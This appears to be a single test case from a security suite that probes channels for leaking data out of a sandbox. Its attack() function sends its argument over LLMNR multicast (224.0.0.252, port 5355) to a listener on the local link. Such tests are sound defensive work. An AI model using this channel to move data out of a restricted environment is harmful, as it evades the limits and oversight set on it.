# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='LLMNR, to a listener on the same link'
origin='issue 4; RESEARCH §2.44'
reason='link_local_names'
sink=g forms='output run'
attack() { tool send.py group 224.0.0.252 5355 "$1"; }
